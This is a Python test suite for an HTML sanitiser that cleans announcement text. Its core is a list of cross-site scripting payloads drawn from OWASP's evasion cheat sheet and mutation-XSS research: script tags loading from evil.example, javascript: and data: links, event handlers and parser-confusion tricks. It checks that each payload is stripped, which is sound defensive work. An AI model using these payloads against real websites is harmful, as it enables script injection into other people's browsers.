from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from fetcher.announcements.html import LONGEST, TAGS, plain_text, safe_html, shorten_text

# After OWASP's XSS Filter Evasion Cheat Sheet and the Cure53 papers on mutation XSS:
# https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
ATTACKS = [
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<SCRIPT SRC=//evil.example/.j>",
    "<SCRIPT/XSS SRC='https://evil.example/xss.js'></SCRIPT>",
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<<SCRIPT>alert('XSS');//\\<</SCRIPT>",
    "<script\x0d\x0a>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</TITLE><SCRIPT>alert('XSS');</SCRIPT>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC= onmouseover=\"alert('xss')\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert('XSS')>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<p/onmouseover=alert(1)//>x",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<b autofocus tabindex=1 onfocus=alert(1)>",
    "<a href=\"javascript:alert('XSS')\">x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='jav\nascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#0000106&#0000097&#0000118ascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/evil'>x</a>",
    "<a href='#top'>x</a>",
    "<a href='http://evil.example/'>x</a>",
    "<a href='https://user:secret@evil.example/'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='https://evil.example/\"onclick=\"alert(1)'>x</a>",
    "<a href='https://evil.example/' ping=/evil target=_top onclick=alert(1) id=x class=y name=z lang=de>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<form action=javascript:alert(1)><input type=submit formaction=javascript:alert(1)><button>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href='javascript:alert(1)//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import'https://evil.example/x.css';</style>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<plaintext><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<select><noembed></select><script>alert(1)</script></noembed>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<a title='</a><script>alert(1)</script>'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\x00script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<p>\u202e<b>\u2066</b></p>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
]


class Reader(HTMLParser):
    """Another parser than the sanitiser's: it notes every tag, attribute and comment."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str, str]] = set()
        self.others: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name, value or "") for name, value in attrs}

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    handle_pi = unknown_decl = handle_comment

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)


def require_safe(markup: str) -> None:
    reader = Reader(markup)
    assert reader.tags <= TAGS
    assert reader.others == []
    for tag, name, value in reader.attributes:
        assert (tag, name) in {("a", "href"), ("a", "rel")}
        assert name == "rel" or (urlsplit(value).scheme, urlsplit(value).username) == ("https", None)


@pytest.mark.parametrize("attack", ATTACKS)
def test_of_an_attack_nothing_is_left_but_allowed_tags_and_plain_https_links(attack: str) -> None:
    cleaned = safe_html(f"<p>before</p>{attack}<p>after</p>")

    require_safe(cleaned)
    assert cleaned.startswith("<p>before</p>")
    assert safe_html(cleaned) == cleaned  # what a browser reads is what was checked


@given(st.lists(st.sampled_from(ATTACKS) | st.text(max_size=5), max_size=8).map("".join))
@example("<a href='https://a.example/'>" * 3)
def test_no_mixture_of_attacks_gets_through(text: str) -> None:
    require_safe(safe_html(text))
    assert len(plain_text(text, 200)) <= 200


def test_the_html_of_an_announcement_stays_as_it_is_but_for_styles_and_targets() -> None:
    text = (
        '<p>In <b>all</b> <a href="https://aws.amazon.com/x/?a=1&amp;b=2#c" target="_blank" style="">Regions</a>'
        '&nbsp;of AWS.\n <br></p><ul>\n <li>One</li>\n</ul><h2 class="x">More</h2>'
    )

    assert safe_html(text) == (
        '<p>In <b>all</b> <a href="https://aws.amazon.com/x/?a=1&amp;b=2#c" rel="noopener noreferrer">Regions</a>'
        "&nbsp;of AWS.\n <br></p><ul>\n <li>One</li>\n</ul><h2>More</h2>"
    )


@pytest.mark.parametrize("text", ["x" * (LONGEST + 1), "<table><b>" * 1000], ids=["before", "after"])
def test_html_that_is_too_long_before_or_after_is_left_out(text: str) -> None:
    assert safe_html(text) == ""
    assert safe_html("x" * LONGEST) == "x" * LONGEST


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("<p>Amazon&nbsp;<b>S3</b>.</p><ul><li>One</li><li>two</li></ul>", "Amazon S3. One two"),
        ("a &lt;b&gt; &amp; c", "a <b> & c"),
        ("<script>alert(1)</script><style>p {}</style>\n Text ", "Text"),
        ("line<br>break and <a href='https://x.example/'>link</a>ed", "line break and linked"),
        ("", ""),
        ("<p>&nbsp;</p>", ""),
    ],
)
def test_plain_text_is_what_a_reader_would_see_on_one_line(text: str, plain: str) -> None:
    assert plain_text(text, 200) == plain


def test_text_is_cut_between_words() -> None:
    assert shorten_text("one two-three  four", 19) == "one two-three four"
    assert shorten_text("one two-three four", 14) == "one two-three…"
    assert shorten_text("one two-three four", 13) == "one…"
    assert shorten_text("x" * 20, 10) == "…"
